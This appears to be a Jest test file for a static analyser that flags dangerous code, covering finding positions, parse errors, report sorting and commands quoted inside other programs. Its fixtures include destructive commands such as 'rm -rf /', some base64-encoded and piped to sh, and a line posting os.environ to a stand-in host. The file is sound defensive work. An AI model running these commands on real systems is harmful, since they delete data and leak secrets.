import { describe, expect, it } from '@jest/globals';
import { analyse } from '../../../src/core/analysis/engine.ts';
import type { LanguageName } from '../../../src/core/analysis/report.ts';
import { MAXIMUM_FINDINGS } from '../../../src/core/analysis/report.ts';

const judged = (code: string, language: LanguageName = 'Python') => analyse({ language, code });
const placesOf = (code: string, language: LanguageName = 'Python') =>
  judged(code, language).findings.map(({ rule, line, column, endLine, endColumn }) => [
    rule,
    line,
    column,
    endLine,
    endColumn,
  ]);

describe('places', () => {
  it('count lines and columns from 1, the end exclusive', () => {
    expect(placesOf('import os\nx = os.system')).toEqual([['PY-EXEC-OS', 2, 5, 2, 14]]);
  });

  it('count characters, not bytes', () => {
    expect(placesOf('import os\nx = "日本語" + os.system')).toEqual([['PY-EXEC-OS', 2, 13, 2, 22]]);
  });

  it('are those of the text that runs a quoted program', () => {
    expect(placesOf('x = 1\nls; eval "fork_it; rm -rf /"', 'Bash')).toContainEqual([
      'SH-DELETE',
      2,
      5,
      2,
      29,
    ]);
  });

  it.each([
    ['Python', 'x = 1\ny = = 2', 2, 5],
    ['JavaScript', 'let x = 1;\nconst y = ;', 2, 11],
    ['TypeScript', 'let x: = 1;', 1, 8],
    ['Bash', 'echo a\nif true; then', 2, 14],
  ] as const)('of what does not parse in %s are told', (language, code, line, column) => {
    const report = judged(code, language);
    expect(report.parsed).toBe(false);
    expect(report.findings[0]).toMatchObject({ rule: 'ANY-PARSE', severity: 'High', line, column });
    expect(report.findings[0]?.message.en).toMatch(/does not parse/);
  });
});

describe('What never ends is reported where it begins', () => {
  it.each([
    ['Python', 'x = 1\nz = "abc\nprint(z)\n', 2, 5],
    ['Python', 'def f():\n    """Doc.\n    return 1\n\nf()\n', 2, 5],
    ['Python', "x = 1\n\ns = '''abc\nprint(\"s\")\n", 3, 5],
    ['Python', 'x = 1\ny = f"abc {x}\nprint(y)\n', 2, 5],
    ['Python', 'x = 1\ny = rb"""abc\nprint(y)\n', 2, 5],
    ['Python', 'x = 1\ny = f"abc {x\nprint(y)\n', 2, 5],
    ['Python', "x = 1\nprint(\"it's\", 'a\\'b', color\"x)\n", 2, 28],
    ['Python', 'x = 1\r\ny = "a\\\r\nb"\r\nz = "c\r\n', 4, 5],
    ['Python', 'x = 1\nprint("a",\n  (1, 2)\ny = 3\nz = 4\n', 2, 6],
    ['Python', 'x = 1\ny = [1, 2,  # (\n  3,\n', 2, 5],
    ['Python', 'd = {"a": 1,\n "b": 2\nfor i in d:\n  print(i)\n', 1, 5],
    ['Python', "x = 1\ny = u'''abc\nprint(\"y\")", 2, 5],
    ['Python', 'x = r"""a"""\ny = rf"""abc {x}\nprint(y)\n', 2, 5],
    ['JavaScript', 'let x = 1;\nconst z = "abc;\nf(z);', 2, 11],
    ['TypeScript', 'let x = 1;\n/* abc\nf(x);', 2, 1],
    ['Bash', 'echo a\necho "x $(echo "abc)\necho c\n', 2, 6],
    ['Bash', "echo a\necho 'abc\necho c\n", 2, 6],
  ] as const)('in %s: %j', (language, code, line, column) => {
    expect(judged(code, language).findings[0]).toMatchObject({ rule: 'ANY-PARSE', line, column });
  });

  it.each([
    ['a line that is indented as none before', 'def f():\n        x = 1\n    y = 2\n', 3, 5],
    ['a number without digits', 'x = 1\ny = 0x\n', 2, 5],
    ['a bracket that is closed twice', 'f = (1)\ny = 1)\n', 2, 6],
    ['an error before a bracket in its line', 'x = 1\nprint(y z, (\n', 2, 9],
    ['an error before an open bracket', 'x = = 1\ny = (\n', 1, 5],
  ])('and %s where it stands', (_what, code, line, column) => {
    expect(judged(code).findings[0]).toMatchObject({ rule: 'ANY-PARSE', line, column });
  });
});

it.each([
  ['x = r"""a\\""""\nprint(x)'],
  [`x = f'{chr(34)}"' + b'''a'b'''.decode()`],
  ['x = b""""""; y = rb"""\n"""'],
])('A long text that ends is none that does not: %j', (code) => {
  expect(judged(code).parsed).toBe(true);
});

describe('a report', () => {
  it('is sorted by place, then rule', () => {
    const report = judged(
      'import os, requests\nrequests.post("http://x.example", data=dict(os.environ)); os.fork()',
    );
    const keys = report.findings.map(({ line, column, rule }) => [line, column, rule] as const);
    expect(keys).toEqual(keys.toSorted((a, b) => a[0] - b[0] || a[1] - b[1] || (a[2] < b[2] ? -1 : 1)));
  });

  it('keeps the gravest of too many findings, and counts the rest', () => {
    const report = judged(`import os\n${'eval("1")\n'.repeat(100)}[os.fork() for x in y]`);
    expect(report.findings).toHaveLength(MAXIMUM_FINDINGS);
    expect(report.truncatedFindings).toBe(101 - MAXIMUM_FINDINGS);
    expect(report.findings.at(-1)).toMatchObject({ rule: 'PY-FORK', severity: 'Critical' });
  });

  it('shows one line of source, escaped and short', () => {
    const [finding] = judged(`eval("a\u202eb" +\n  ${'x'.repeat(300)})`).findings.filter(
      ({ rule }) => rule === 'ANY-OBFUSC',
    );
    expect(finding?.excerpt).toBe('\\u202e');
    const [long] = judged(
      `import os\nos.system(${'x'.repeat(300)})\n${'y'.repeat(300)}=eval("1", ${'z'.repeat(300)})`,
    ).findings;
    expect(long?.excerpt.length).toBeLessThanOrEqual(120);
  });

  it('carries the digest of the rules, the same for every program', () => {
    expect(judged('x').ruleSetDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(judged('y', 'Bash').ruleSetDigest).toBe(judged('x').ruleSetDigest);
  });

  it('speaks English and Japanese', () => {
    const [finding] = judged('eval("1")').findings;
    expect(finding?.message.ja).toMatch(/[ぁ-ん]/);
    expect(finding?.remedy?.ja).toMatch(/[ぁ-ん]/);
  });
});

describe('files', () => {
  const files = [
    { path: 'lib/tool.py', content: 'import os\nos.system("id")' },
    { path: 'run', content: '#!/usr/bin/env bash\nrm -rf /\n' },
    { path: 'notes.txt', content: 'os.system("id")' },
  ];

  it('are judged by their own language, data left alone', () => {
    const report = analyse({ language: 'Python', code: 'print(1)', files });
    expect(report.findings.map(({ rule, file }) => [rule, file])).toEqual([
      ['PY-EXEC-OS', 'lib/tool.py'],
      ['SH-DELETE', 'run'],
    ]);
  });

  it('that do not parse make the whole unread', () => {
    const report = analyse({
      language: 'Python',
      code: 'print(1)',
      files: [{ path: 'a.py', content: 'x = =' }],
    });
    expect(report).toMatchObject({ parsed: false, findings: [{ rule: 'ANY-PARSE', file: 'a.py' }] });
  });
});

describe('options', () => {
  const source = {
    language: 'Python',
    code: 'import requests\nrequests.get("https://x.example")\nbilling.charge(1)',
  } as const;

  it('name further actions', () => {
    const actions = [
      { call: 'billing.charge', action: 'charge_card' },
      { call: 'requests.*', action: 'use_network' },
    ];
    expect(analyse(source, { actions }).actions.map(({ action }) => action)).toEqual([
      'use_network',
      'charge_card',
    ]);
  });
});

describe('quoted programs', () => {
  it.each([
    ['Python in Python', 'Python', 'exec("import os\\nos.fork()")', 'PY-FORK'],
    ['Bash in Python', 'Python', 'import subprocess\nsubprocess.run("rm -rf /", shell=True)', 'SH-DELETE'],
    [
      'Bash in an argv in Python',
      'Python',
      'import subprocess\nsubprocess.run(["sudo", "bash", "-c", "rm -rf /"])',
      'SH-DELETE',
    ],
    ['Python in Bash', 'Bash', 'python3 -c "import os; os.fork()"', 'PY-FORK'],
    ['Python in a here-document', 'Bash', "python3 - <<'E'\nimport os\nos.fork()\nE", 'PY-FORK'],
    [
      'Bash in Bash in Python',
      'Python',
      'import os\nos.system("sh -c \'sh -c \\"rm -rf /\\"\'")',
      'SH-DELETE',
    ],
    [
      'JavaScript in JavaScript',
      'JavaScript',
      'new Function("a", "require(\'child_process\')")',
      'JS-EXEC-CHILD',
    ],
    ['Bash in JavaScript', 'JavaScript', 'require("child_process").spawn("rm", ["-rf", "/"])', 'SH-DELETE'],
    ['Bash from a pipe', 'Bash', 'echo "rm -rf /" | cat | sh', 'SH-DELETE'],
    ['decoded Bash', 'Bash', 'echo cm0gLXJmIC8= | base64 -d | sh', 'SH-DELETE'],
  ] as const)('%s are judged in their language', (_what, language, code, rule) => {
    expect(judged(code, language).findings.map((finding) => finding.rule)).toContain(rule);
  });

  it('that are quoted too deeply to be read do not pass', () => {
    let code = 'id';
    for (let depth = 0; depth < 9; depth += 1) code = `sh -c ${JSON.stringify(code)}`;
    expect(judged(code, 'Bash')).toMatchObject({ parsed: false });
  });

  it('that do not parse are left to the rules for dynamic code', () => {
    expect(judged('eval("1 +")')).toMatchObject({ parsed: true, findings: [{ rule: 'PY-DYN' }] });
  });
});
